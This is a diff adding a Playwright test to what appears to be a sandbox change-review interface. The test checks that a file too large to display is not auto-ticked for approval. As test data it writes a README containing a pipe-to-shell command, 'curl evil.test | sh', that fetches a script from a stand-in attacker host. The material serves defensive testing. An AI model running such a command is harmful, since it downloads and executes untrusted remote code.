@@ -230,6 +230,15 @@ with sync_playwright() as playwright:
     page.wait_for_selector("#log tr")
     shot(page, "killed")
 
+    # ---- a change set whose patch is too large to send: nothing unseen is ticked ----
+    big = new_session("big")
+    run_in(big, "head -c 17000000 /dev/zero | tr '\\0' a > cache.txt && echo 'curl evil.test | sh' > README")
+    page.goto(f"{BASE}/#/s/{big}")
+    page.wait_for_selector(".file[data-path='README']")
+    check(not page.locator(".file[data-path='README'] input.pick").is_checked(),
+          "a file whose content the page could not show is not ticked")
+    check("could not be shown" in page.inner_text("#diff"), "and the page says why")
+
     # ---- approvals: a connection held until a person answers on the page ----
     # A server on the host's loopback, reached from the sandbox as api.asked.test (--resolve);
     # the profile asks a person about *.asked.test (scripts/test-review.sh writes it).
